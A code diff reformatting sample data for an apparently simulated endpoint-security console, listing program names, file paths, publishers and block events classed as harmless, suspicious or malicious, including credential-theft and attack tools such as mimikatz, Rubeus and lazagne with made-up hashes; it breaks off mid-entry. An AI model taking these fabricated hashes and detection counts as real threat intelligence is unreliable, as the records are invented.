-  P('ScreenConnect.ClientService.exe', 'C:\\Program Files (x86)\\ScreenConnect Client (6a3f0c9e2b71d845)', 'ConnectWise, LLC', 'suspicious', 3, 'service', 'NetworkBlocked', 'Netlock Policy'),
-  P('winvnc.exe', 'C:\\Program Files\\uvnc bvba\\UltraVNC', 'uvnc bvba', 'suspicious', 2, 'service', 'NetworkBlocked', 'Netlock Policy'),
-  P('qbittorrent.exe', 'C:\\Program Files\\qBittorrent', 'The qBittorrent project', 'suspicious', 2, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
-  P('tor.exe', 'C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor', null, 'suspicious', 1, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
+  P(
+    'PsExec64.exe',
+    'C:\\Tools\\SysinternalsSuite',
+    'Sysinternals - www.sysinternals.com',
+    'suspicious',
+    3,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'procdump64.exe',
+    'C:\\Tools\\SysinternalsSuite',
+    'Sysinternals - www.sysinternals.com',
+    'suspicious',
+    2,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'nmap.exe',
+    'C:\\Program Files (x86)\\Nmap',
+    'Insecure.Com LLC',
+    'suspicious',
+    2,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
+  P(
+    'advanced_ip_scanner.exe',
+    `${TEMP}\\Advanced IP Scanner 2`,
+    'Famatech Corp.',
+    'suspicious',
+    3,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'ScreenConnect.ClientService.exe',
+    'C:\\Program Files (x86)\\ScreenConnect Client (6a3f0c9e2b71d845)',
+    'ConnectWise, LLC',
+    'suspicious',
+    3,
+    'service',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
+  P(
+    'winvnc.exe',
+    'C:\\Program Files\\uvnc bvba\\UltraVNC',
+    'uvnc bvba',
+    'suspicious',
+    2,
+    'service',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
+  P(
+    'qbittorrent.exe',
+    'C:\\Program Files\\qBittorrent',
+    'The qBittorrent project',
+    'suspicious',
+    2,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
+  P(
+    'tor.exe',
+    'C:\\Users\\{user}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor',
+    null,
+    'suspicious',
+    1,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+  ),
   P('plink.exe', TEMP, 'Simon Tatham', 'suspicious', 1, 'explorer', 'NetworkBlocked', 'Netlock Policy'),
-  P('ProcessHacker.exe', 'C:\\Program Files\\Process Hacker 2', 'Wen Jia Liu', 'suspicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('WinRing0x64.sys', 'C:\\Windows\\Temp', 'OpenLibSys.org', 'suspicious', 1, 'driver', 'ExecutionBlocked', 'Driver Control'),
+  P(
+    'ProcessHacker.exe',
+    'C:\\Program Files\\Process Hacker 2',
+    'Wen Jia Liu',
+    'suspicious',
+    1,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
+  P(
+    'WinRing0x64.sys',
+    'C:\\Windows\\Temp',
+    'OpenLibSys.org',
+    'suspicious',
+    1,
+    'driver',
+    'ExecutionBlocked',
+    'Driver Control',
+  ),
   // malicious: droppers, stealers, loaders (each version gets a new name)
   P('payment_advice_#.exe', DL, null, 'malicious', 1, 'browser', 'ExecutionBlocked', 'Default Enclave'),
-  P('Invoice_#.pdf.exe', 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M9D', null, 'malicious', 1, 'outlook', 'ExecutionBlocked', 'Default Enclave'),
+  P(
+    'Invoice_#.pdf.exe',
+    'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\Q7XK2M9D',
+    null,
+    'malicious',
+    1,
+    'outlook',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
   P('DHL_Shipment_#.exe', DL, null, 'malicious', 1, 'browser', 'ExecutionBlocked', 'Default Enclave'),
-  P('msupdate#.exe', 'C:\\ProgramData\\Microsoft\\Update', null, 'malicious', 1, 'task', 'ExecutionBlocked', 'Default Enclave'),
+  P(
+    'msupdate#.exe',
+    'C:\\ProgramData\\Microsoft\\Update',
+    null,
+    'malicious',
+    1,
+    'task',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
   P('beacon_#.dll', ROAMING, null, 'malicious', 1, 'rundll', 'DllLoadBlocked', 'Code Load'),
   P('loader_#.ps1', TEMP, null, 'malicious', 1, 'macro', 'ScriptBlocked', 'Custom Scripts'),
   P('Quote_Request_#.vbs', DL, null, 'malicious', 1, 'vbs', 'ScriptBlocked', 'Custom Scripts'),
   P('SharpHound.exe', TEMP, null, 'malicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
-  P('Rubeus.exe', 'C:\\Users\\Public\\Music', null, 'malicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
+  P(
+    'Rubeus.exe',
+    'C:\\Users\\Public\\Music',
+    null,
+    'malicious',
+    1,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+  ),
   P('lazagne.exe', TEMP, null, 'malicious', 1, 'explorer', 'ExecutionBlocked', 'Default Enclave'),
   // Japanese software (drawn for computers of Japanese companies)
-  P('勘定奉行.exe', 'C:\\Program Files (x86)\\OBC\\Bugyo', '株式会社オービックビジネスコンサルタント', 'harmless', 30, 'explorer', 'ExecutionAllowed', 'Trusted Publishers', true),
-  P('弥生会計.exe', 'C:\\Program Files (x86)\\Yayoi\\Kaikei', '弥生株式会社', 'harmless', 25, 'explorer', 'ExecutionAllowed', 'Trusted Publishers', true),
-  P('TARO.EXE', 'C:\\Program Files (x86)\\JustSystems\\TARO', 'JUSTSYSTEMS CORPORATION', 'harmless', 20, 'explorer', 'ExecutionAllowed', 'Trusted Publishers', true),
-  P('CybozuDesktop.exe', 'C:\\Program Files (x86)\\Cybozu\\Desktop', 'Cybozu, Inc.', 'harmless', 18, 'explorer', 'ExecutionAllowed', 'Trusted Publishers', true),
-  P('勤怠管理.exe', 'C:\\Program Files (x86)\\KintaiSystem', 'さくらソフト株式会社', 'notFound', 22, 'explorer', 'ExecutionAllowed', 'Default Enclave', true),
-  P('経費精算.exe', 'C:\\Tools\\Keihi', null, 'notFound', 12, 'explorer', 'PolicyViolation', 'Default Enclave', true),
-  P('生産管理クライアント.exe', 'C:\\Seisan\\Client', null, 'notFound', 14, 'explorer', 'ExecutionAllowed', 'Default Enclave', true),
-  P('見積作成.exe', 'C:\\Users\\{user}\\Desktop\\見積', null, 'notFound', 8, 'explorer', 'ExecutionBlocked', 'Default Enclave', true),
-  P('sakura.exe', 'C:\\Program Files (x86)\\sakura', null, 'harmless', 10, 'explorer', 'ExecutionBlocked', 'Default Enclave', true),
-  P('Lhaplus.exe', 'C:\\Program Files (x86)\\Lhaplus', null, 'harmless', 8, 'explorer', 'ExecutionBlocked', 'Default Enclave', true),
-  P('ffftp.exe', 'C:\\Program Files (x86)\\ffftp', null, 'harmless', 5, 'explorer', 'NetworkBlocked', 'Netlock Policy', true),
+  P(
+    '勘定奉行.exe',
+    'C:\\Program Files (x86)\\OBC\\Bugyo',
+    '株式会社オービックビジネスコンサルタント',
+    'harmless',
+    30,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+    true,
+  ),
+  P(
+    '弥生会計.exe',
+    'C:\\Program Files (x86)\\Yayoi\\Kaikei',
+    '弥生株式会社',
+    'harmless',
+    25,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+    true,
+  ),
+  P(
+    'TARO.EXE',
+    'C:\\Program Files (x86)\\JustSystems\\TARO',
+    'JUSTSYSTEMS CORPORATION',
+    'harmless',
+    20,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+    true,
+  ),
+  P(
+    'CybozuDesktop.exe',
+    'C:\\Program Files (x86)\\Cybozu\\Desktop',
+    'Cybozu, Inc.',
+    'harmless',
+    18,
+    'explorer',
+    'ExecutionAllowed',
+    'Trusted Publishers',
+    true,
+  ),
+  P(
+    '勤怠管理.exe',
+    'C:\\Program Files (x86)\\KintaiSystem',
+    'さくらソフト株式会社',
+    'notFound',
+    22,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    '経費精算.exe',
+    'C:\\Tools\\Keihi',
+    null,
+    'notFound',
+    12,
+    'explorer',
+    'PolicyViolation',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    '生産管理クライアント.exe',
+    'C:\\Seisan\\Client',
+    null,
+    'notFound',
+    14,
+    'explorer',
+    'ExecutionAllowed',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    '見積作成.exe',
+    'C:\\Users\\{user}\\Desktop\\見積',
+    null,
+    'notFound',
+    8,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    'sakura.exe',
+    'C:\\Program Files (x86)\\sakura',
+    null,
+    'harmless',
+    10,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    'Lhaplus.exe',
+    'C:\\Program Files (x86)\\Lhaplus',
+    null,
+    'harmless',
+    8,
+    'explorer',
+    'ExecutionBlocked',
+    'Default Enclave',
+    true,
+  ),
+  P(
+    'ffftp.exe',
+    'C:\\Program Files (x86)\\ffftp',
+    null,
+    'harmless',
+    5,
+    'explorer',
+    'NetworkBlocked',
+    'Netlock Policy',
+    true,
+  ),
 ];
 
 function hashTypeOf(name: string, event: EventType): HashType {
@@ -375,7 +1199,8 @@ function hashTypeOf(name: string, event: EventType): HashType {
   if (lower.endsWith('.dll')) return 'Dll';
   if (lower.endsWith('.sys')) return 'Driver';
   if (/\.(ps1|bat|cmd|vbs|js)$/.test(lower)) return 'Script';
-  if (lower.endsWith('.msi') || /setup|installer/.test(lower) || event === 'ElevationRequested') return 'Installer';
+  if (lower.endsWith('.msi') || /setup|installer/.test(lower) || event === 'ElevationRequested')
+    return 'Installer';
   return 'Executable';
 }
 
@@ -390,7 +1215,10 @@ function severityOf(rng: Random, cls: HashClass, event: EventType): { blocked: S
     case 'notFound':
       return { blocked: event === 'PolicyViolation' || rng.chance(0.3) ? 'Medium' : 'Low', allowed: 'Info' };
     default:
-      return { blocked: event === 'RemovableMediaBlocked' || rng.chance(0.25) ? 'Medium' : 'Low', allowed: 'Info' };
+      return {
+        blocked: event === 'RemovableMediaBlocked' || rng.chance(0.25) ? 'Medium' : 'Low',
+        allowed: 'Info',
+      };
   }
 }
 
@@ -436,27 +1264,384 @@ interface NamedHash {
 }
 
 const NAMED: NamedHash[] = [
-  { key: 'invoice', sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08', md5: '3de1d73a19c7590ee66398a17e93bd67', sha1: 'e9e8fa9602f37a97a0e3f588c8e49e1bbb756706', fileName: 'invoice_viewer.exe', path: 'C:\\Users\\{user}\\Downloads\\invoice_viewer.exe', publisher: null, cls: 'malicious', severity: 'Critical', detections: 61, engines: 72, firstSeen: '2026-11-02T08:14:09Z', launch: 'explorer', event: 'ExecutionBlocked', policy: 'Default Enclave', incident: true },
-  { key: 'excel', sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae', md5: '1db7afcfec00120a8812a4c6a1a267c0', sha1: '8cc31f9d77f6d97d97b3771b145267170a4e7bb7', fileName: 'excel.exe', path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', publisher: 'Microsoft Corporation', cls: 'harmless', severity: 'Info', detections: 0, engines: 72, firstSeen: '2025-01-14T10:22:31Z', product: 'EXCEL.EXE', launch: 'explorer', event: 'ExecutionAllowed', policy: 'Trusted Publishers', tree: false },
-  { key: 'portable', sha256: '61baf771f25b3ab9107ecdd47af5fab5ae3aa73a6121dae0ff420e9107cc5975', md5: 'f954ec8fae99f2984150e95396572623', sha1: 'f336ed9b1908e26940d41170a671452891063d20', fileName: 'PortableApps.exe', path: 'E:\\PortableApps\\PortableApps.exe', publisher: 'Rare Ideas, LLC', cls: 'harmless', severity: 'Medium', detections: 0, engines: 72, firstSeen: '2026-11-04T09:12:37Z', launch: 'usb', event: 'RemovableMediaBlocked', policy: 'Removable Media', incident: true },
-  { key: 'zoom', sha256: '969c576e22fcaee2cd4a366e750254883436e6ee4ca8fdf38299ef0f59a77078', md5: '97adbaf82bec5da641ca277cfdf8f439', sha1: '32de72995d5cfd0ffb02178ed2b89742df545126', fileName: 'Zoom.exe', path: 'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', publisher: 'Zoom Video Communications, Inc.', cls: 'harmless', severity: 'Low', detections: 0, engines: 72, firstSeen: '2026-08-19T14:03:55Z', product: 'Zoom.exe', launch: 'explorer', event: 'ExecutionBlocked', policy: 'Default Enclave' },
-  { key: 'rclone', sha256: 'fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9', md5: '4d46f941de59021095ec9085a16cf290', sha1: 'f6023f0835ef6d8e41cda229a278118dde69dc07', fileName: 'rclone.exe', path: 'C:\\ProgramData\\sync\\rclone.exe', publisher: null, cls: 'suspicious', severity: 'High', detections: 9, engines: 72, firstSeen: '2026-10-27T21:48:02Z', product: 'rclone.exe', launch: 'task', event: 'ExecutionBlocked', policy: 'Default Enclave' },
-  { key: 'updateHelper', sha256: 'd4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35', md5: '506cd8d4605ab25caf236baccf63d8b0', sha1: 'a7b62a8811b311a7c124b2491dad89634edc7aae', fileName: 'update_helper.dll', path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\update_helper.dll', publisher: null, cls: 'malicious', severity: 'Critical', detections: 58, engines: 72, firstSeen: '2026-11-12T10:31:44Z', launch: 'rundll', event: 'DllLoadBlocked', policy: 'Code Load', incident: true },
-  { key: 'anydesk', sha256: 'c6d90591a3d1c06c841b3f6c7311292f90d21844a6e03658d87a70ec189bdef1', md5: 'f80f5a2de480ca89c1797f3977597358', sha1: 'acff8640c8c9bfb855c8aed2f2fc11ea5f0c08eb', fileName: 'AnyDesk.exe', path: 'C:\\Users\\{user}\\Downloads\\AnyDesk.exe', publisher: 'philandro Software GmbH', cls: 'suspicious', severity: 'High', detections: 5, engines: 72, firstSeen: '2026-11-02T07:41:27Z', product: 'AnyDesk.exe', launch: 'browser', event: 'ExecutionBlocked', policy: null, tree: false },
-  { key: 'qbw', sha256: '3b37a0f79f919be2e14b99b39e2fd300bd591370d9f4077d355718ad14a18984', md5: '6c3d196d8e92d206a425c15c6ed68c7b', sha1: '7669df4612a148ef5206868d1ccecdce429ce2dc', fileName: 'QBW32.exe', path: 'C:\\Program Files\\Intuit\\QuickBooks 2026\\QBW32.exe', publisher: 'Intuit Inc.', cls: 'notFound', severity: 'Medium', detections: 0, engines: 0, firstSeen: '2026-11-10T08:31:50Z', product: 'QBW32.exe', launch: 'explorer', event: 'PolicyViolation', policy: 'Finance Global Policy', tree: false },
-  { key: 'python', sha256: 'e41b8eadf4c6e69c5148ebd37ef60c3a4d55ccef1cb43e96e3de9152d7483c0e', md5: '3807dd77b44454cd534b66fe6ae31f4a', sha1: '83415f13601c8fb9748519ba063dfb69cb786f90', fileName: 'python.exe', path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe', publisher: 'Python Software Foundation', cls: 'harmless', severity: 'High', detections: 0, engines: 72, firstSeen: '2026-10-05T15:40:22Z', launch: 'dev', event: 'NetworkBlocked', policy: 'Netlock Policy', incident: true },
-  { key: 'chromeUpdater', sha256: '9f5f561164918277e12ec6d892d6c01ca9d36b7199fe9795c08d3e3a11021e8c', md5: '03a77109a99bcdac652cadccba241999', sha1: 'e30ef996cf21e4dd3a29620407dd848f630e9ed5', fileName: 'chrome_updater.exe', path: 'C:\\Users\\{user}\\AppData\\Roaming\\chrome_updater.exe', publisher: null, cls: 'malicious', severity: 'Critical', detections: 49, engines: 72, firstSeen: '2026-11-16T11:58:03Z', launch: 'explorer', event: 'ExecutionBlocked', policy: 'Default Enclave', incident: true },
-  { key: '7zg', sha256: '52f3ce9e7245b38185c3f7e33ef2727a39877c819148e789f036b616e8eb0181', md5: '0421e46dc1719a1dd304a92d10522728', sha1: 'adf2789ae5f6d68c803171e952849e1ba9cd9828', fileName: '7zG.exe', path: 'C:\\Program Files\\7-Zip\\7zG.exe', publisher: 'Igor Pavlov', cls: 'harmless', severity: 'Info', detections: 0, engines: 72, firstSeen: '2024-06-03T11:20:45Z', product: '7zG.exe', launch: 'explorer', event: 'ExecutionAllowed', policy: 'Default Enclave' },
-  { key: 'syncShare', sha256: '87e4099df66a3249d116e1bfe84b1b24b66e5fe6d98cd5f1e635470a1209770d', md5: '9e80d4c69569405f7405f02228404685', sha1: '8e2982a6b4c976db4d6c68dad9aa2f24de264111', fileName: 'sync_share.ps1', path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\sync_share.ps1', publisher: null, cls: 'notFound', severity: 'High', detections: 0, engines: 0, firstSeen: '2026-11-14T10:03:41Z', launch: 'macro', event: 'ScriptBlocked', policy: 'Custom Scripts', incident: true },
-  { key: 'invoiceNov', sha256: '50f78dbac01e6b9be27e0c1c00eab83352f571baa5fcd70e7a61aa1a15b1230b', md5: '691d81a648282b835ceb4a65fd215348', sha1: 'c7b780ddf6eb269db15ef68dfa6547eada90e37e', fileName: 'Invoice_Nov2026.pdf.exe', path: 'C:\\Users\\{user}\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\8KQ2ZP4W\\Invoice_Nov2026.pdf.exe', publisher: null, cls: 'malicious', severity: 'Critical', detections: 63, engines: 72, firstSeen: '2026-11-13T16:05:12Z', launch: 'outlook', event: 'ExecutionBlocked', policy: 'Default Enclave', incident: true },
-  { key: 'rtcore', sha256: '45d6128bfda3962bce5ee6f3ca816e8fe65763e88bc78001902be9332e6df302', md5: '219b08fd2d2887513844a1019a64b8c7', sha1: 'b1664fda7dd32f98261ca24a59b90a56f5203b68', fileName: 'RTCore64.sys', path: 'C:\\Windows\\Temp\\RTCore64.sys', publisher: 'Micro-Star International CO., LTD.', cls: 'malicious', severity: 'Critical', detections: 41, engines: 72, firstSeen: '2026-11-09T02:14:27Z', launch: 'driver', event: 'ExecutionBlocked', policy: 'Driver Control', incident: true },
-  { key: 'updateOffice', sha256: 'cf580490fec2a32243bd5664aa51c6eb7daf9cbb7c3e45ebd7000652754676dc', md5: 'e41dd3ac008ee5613ebea20108de2175', sha1: 'b85e11c7beab3467817a368bf095c628fadbd1c8', fileName: 'Update-Office.ps1', path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\Update-Office.ps1', publisher: null, cls: 'malicious', severity: 'Critical', detections: 36, engines: 72, firstSeen: '2026-11-06T18:44:09Z', launch: 'macro', event: 'ScriptBlocked', policy: 'Custom Scripts', incident: true },
-  { key: 'mimikatz', sha256: 'f79120505932db8664767a6d21b91498415c851df87f1f04f40fe727c1688248', md5: 'bbc31a0a4089090963e6ace59719547e', sha1: '971c766e652430745b7e5c0bcb4705a411a7e7e5', fileName: 'mimikatz.exe', path: 'C:\\Users\\Public\\Documents\\mimikatz.exe', publisher: null, cls: 'malicious', severity: 'Critical', detections: 66, engines: 72, firstSeen: '2026-10-30T23:51:38Z', launch: 'explorer', event: 'ExecutionBlocked', policy: 'Default Enclave', incident: true },
-  { key: 'svchosts', sha256: '3a25b9d31cb53bddd5881a9baa51f843edf6947605ec872cb510e526f492a525', md5: '68b2bb9487b1733a1f480a49a034ab5a', sha1: 'ae3e5e9396a9c5d45dba2a256717591c10abb53d', fileName: 'svchosts.exe', path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\svchosts.exe', publisher: null, cls: 'malicious', severity: 'Critical', detections: 60, engines: 72, firstSeen: '2026-10-21T04:12:55Z', launch: 'task', event: 'ExecutionBlocked', policy: 'Default Enclave', incident: true },
-  { key: 'winlogonHelper', sha256: '0cc537aa0955e9a48b64b103bd6b02ba96b2f345eb7c56c2e34f33978364ac3f', md5: '83d7dc863216f2ae4a34c799823bd4ae', sha1: 'feaf66349b52ae601d99f1e9e70625a5d59c37f6', fileName: 'winlogon_helper.dll', path: 'C:\\Users\\{user}\\AppData\\Roaming\\Microsoft\\winlogon_helper.dll', publisher: null, cls: 'malicious', severity: 'Critical', detections: 52, engines: 72, firstSeen: '2026-10-21T04:13:02Z', launch: 'rundll', event: 'DllLoadBlocked', policy: 'Code Load', incident: true },
-  { key: 'kintai', sha256: '4e07408562bedb8b60ce05c1decfe3ad16b72230967de01f640b7e4729b49fce', md5: '282b5b0967ea931ce9d6be6b895c24e6', sha1: 'a99a1b3d4adef83cdf03b42bd301ddbc3dc1e18b', fileName: '勤怠管理.exe', path: 'C:\\Program Files (x86)\\KintaiSystem\\勤怠管理.exe', publisher: 'さくらソフト株式会社', cls: 'notFound', severity: 'Low', detections: 0, engines: 0, firstSeen: '2024-04-01T00:12:33Z', product: '勤怠管理.exe', launch: 'explorer', event: 'ExecutionAllowed', policy: 'Default Enclave', tree: false },
-  { key: 'powershell', sha256: SYS.powershell!.sha256, fileName: 'powershell.exe', path: SYS.powershell!.path, publisher: 'Microsoft Windows', cls: 'harmless', severity: 'Info', detections: 0, engines: 72, firstSeen: '2023-10-10T17:02:11Z', launch: 'explorer', event: 'ExecutionAllowed', policy: 'Trusted Publishers', tree: false },
-  { key: 'sc', sha256: '4c8eb694813a30e2c3cf172dfe9b5f579a2b4fee5d65c730ba4e53f7eb35b32e', fileName: 'sc.exe', path: 'C:\\Windows\\System32\\sc.exe', publisher: 'Microsoft Windows', cls: 'harmless', severity: 'Critical', detections: 0, engines: 72, firstSeen: '2023-10-10T17:02:11Z', launch: 'tamper', event: 'TamperAttempt', policy: 'Agent Tamper Protection', incident: true },
+  {
+    key: 'invoice',
+    sha256: '9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08',
+    md5: '3de1d73a19c7590ee66398a17e93bd67',
+    sha1: 'e9e8fa9602f37a97a0e3f588c8e49e1bbb756706',
+    fileName: 'invoice_viewer.exe',
+    path: 'C:\\Users\\{user}\\Downloads\\invoice_viewer.exe',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 61,
+    engines: 72,
+    firstSeen: '2026-11-02T08:14:09Z',
+    launch: 'explorer',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+    incident: true,
+  },
+  {
+    key: 'excel',
+    sha256: '2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae',
+    md5: '1db7afcfec00120a8812a4c6a1a267c0',
+    sha1: '8cc31f9d77f6d97d97b3771b145267170a4e7bb7',
+    fileName: 'excel.exe',
+    path: 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE',
+    publisher: 'Microsoft Corporation',
+    cls: 'harmless',
+    severity: 'Info',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2025-01-14T10:22:31Z',
+    product: 'EXCEL.EXE',
+    launch: 'explorer',
+    event: 'ExecutionAllowed',
+    policy: 'Trusted Publishers',
+    tree: false,
+  },
+  {
+    key: 'portable',
+    sha256: '61baf771f25b3ab9107ecdd47af5fab5ae3aa73a6121dae0ff420e9107cc5975',
+    md5: 'f954ec8fae99f2984150e95396572623',
+    sha1: 'f336ed9b1908e26940d41170a671452891063d20',
+    fileName: 'PortableApps.exe',
+    path: 'E:\\PortableApps\\PortableApps.exe',
+    publisher: 'Rare Ideas, LLC',
+    cls: 'harmless',
+    severity: 'Medium',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2026-11-04T09:12:37Z',
+    launch: 'usb',
+    event: 'RemovableMediaBlocked',
+    policy: 'Removable Media',
+    incident: true,
+  },
+  {
+    key: 'zoom',
+    sha256: '969c576e22fcaee2cd4a366e750254883436e6ee4ca8fdf38299ef0f59a77078',
+    md5: '97adbaf82bec5da641ca277cfdf8f439',
+    sha1: '32de72995d5cfd0ffb02178ed2b89742df545126',
+    fileName: 'Zoom.exe',
+    path: 'C:\\Users\\{user}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe',
+    publisher: 'Zoom Video Communications, Inc.',
+    cls: 'harmless',
+    severity: 'Low',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2026-08-19T14:03:55Z',
+    product: 'Zoom.exe',
+    launch: 'explorer',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+  },
+  {
+    key: 'rclone',
+    sha256: 'fcde2b2edba56bf408601fb721fe9b5c338d10ee429ea04fae5511b68fbf8fb9',
+    md5: '4d46f941de59021095ec9085a16cf290',
+    sha1: 'f6023f0835ef6d8e41cda229a278118dde69dc07',
+    fileName: 'rclone.exe',
+    path: 'C:\\ProgramData\\sync\\rclone.exe',
+    publisher: null,
+    cls: 'suspicious',
+    severity: 'High',
+    detections: 9,
+    engines: 72,
+    firstSeen: '2026-10-27T21:48:02Z',
+    product: 'rclone.exe',
+    launch: 'task',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+  },
+  {
+    key: 'updateHelper',
+    sha256: 'd4735e3a265e16eee03f59718b9b5d03019c07d8b6c51f90da3a666eec13ab35',
+    md5: '506cd8d4605ab25caf236baccf63d8b0',
+    sha1: 'a7b62a8811b311a7c124b2491dad89634edc7aae',
+    fileName: 'update_helper.dll',
+    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\update_helper.dll',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 58,
+    engines: 72,
+    firstSeen: '2026-11-12T10:31:44Z',
+    launch: 'rundll',
+    event: 'DllLoadBlocked',
+    policy: 'Code Load',
+    incident: true,
+  },
+  {
+    key: 'anydesk',
+    sha256: 'c6d90591a3d1c06c841b3f6c7311292f90d21844a6e03658d87a70ec189bdef1',
+    md5: 'f80f5a2de480ca89c1797f3977597358',
+    sha1: 'acff8640c8c9bfb855c8aed2f2fc11ea5f0c08eb',
+    fileName: 'AnyDesk.exe',
+    path: 'C:\\Users\\{user}\\Downloads\\AnyDesk.exe',
+    publisher: 'philandro Software GmbH',
+    cls: 'suspicious',
+    severity: 'High',
+    detections: 5,
+    engines: 72,
+    firstSeen: '2026-11-02T07:41:27Z',
+    product: 'AnyDesk.exe',
+    launch: 'browser',
+    event: 'ExecutionBlocked',
+    policy: null,
+    tree: false,
+  },
+  {
+    key: 'qbw',
+    sha256: '3b37a0f79f919be2e14b99b39e2fd300bd591370d9f4077d355718ad14a18984',
+    md5: '6c3d196d8e92d206a425c15c6ed68c7b',
+    sha1: '7669df4612a148ef5206868d1ccecdce429ce2dc',
+    fileName: 'QBW32.exe',
+    path: 'C:\\Program Files\\Intuit\\QuickBooks 2026\\QBW32.exe',
+    publisher: 'Intuit Inc.',
+    cls: 'notFound',
+    severity: 'Medium',
+    detections: 0,
+    engines: 0,
+    firstSeen: '2026-11-10T08:31:50Z',
+    product: 'QBW32.exe',
+    launch: 'explorer',
+    event: 'PolicyViolation',
+    policy: 'Finance Global Policy',
+    tree: false,
+  },
+  {
+    key: 'python',
+    sha256: 'e41b8eadf4c6e69c5148ebd37ef60c3a4d55ccef1cb43e96e3de9152d7483c0e',
+    md5: '3807dd77b44454cd534b66fe6ae31f4a',
+    sha1: '83415f13601c8fb9748519ba063dfb69cb786f90',
+    fileName: 'python.exe',
+    path: 'C:\\Users\\{user}\\AppData\\Local\\Programs\\Python\\Python312\\python.exe',
+    publisher: 'Python Software Foundation',
+    cls: 'harmless',
+    severity: 'High',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2026-10-05T15:40:22Z',
+    launch: 'dev',
+    event: 'NetworkBlocked',
+    policy: 'Netlock Policy',
+    incident: true,
+  },
+  {
+    key: 'chromeUpdater',
+    sha256: '9f5f561164918277e12ec6d892d6c01ca9d36b7199fe9795c08d3e3a11021e8c',
+    md5: '03a77109a99bcdac652cadccba241999',
+    sha1: 'e30ef996cf21e4dd3a29620407dd848f630e9ed5',
+    fileName: 'chrome_updater.exe',
+    path: 'C:\\Users\\{user}\\AppData\\Roaming\\chrome_updater.exe',
+    publisher: null,
+    cls: 'malicious',
+    severity: 'Critical',
+    detections: 49,
+    engines: 72,
+    firstSeen: '2026-11-16T11:58:03Z',
+    launch: 'explorer',
+    event: 'ExecutionBlocked',
+    policy: 'Default Enclave',
+    incident: true,
+  },
+  {
+    key: '7zg',
+    sha256: '52f3ce9e7245b38185c3f7e33ef2727a39877c819148e789f036b616e8eb0181',
+    md5: '0421e46dc1719a1dd304a92d10522728',
+    sha1: 'adf2789ae5f6d68c803171e952849e1ba9cd9828',
+    fileName: '7zG.exe',
+    path: 'C:\\Program Files\\7-Zip\\7zG.exe',
+    publisher: 'Igor Pavlov',
+    cls: 'harmless',
+    severity: 'Info',
+    detections: 0,
+    engines: 72,
+    firstSeen: '2024-06-03T11:20:45Z',
+    product: '7zG.exe',
+    launch: 'explorer',
+    event: 'ExecutionAllowed',
+    policy: 'Default Enclave',
+  },
+  {
+    key: 'syncShare',
+    sha256: '87e4099df66a3249d116e1bfe84b1b24b66e5fe6d98cd5f1e635470a1209770d',
+    md5: '9e80d4c69569405f7405f02228404685',
+    sha1: '8e2982a6b4c976db4d6c68dad9aa2f24de264111',
+    fileName: 'sync_share.ps1',
+    path: 'C:\\Users\\{user}\\AppData\\Local\\Temp\\sync_share.ps1',
+    publisher: null,
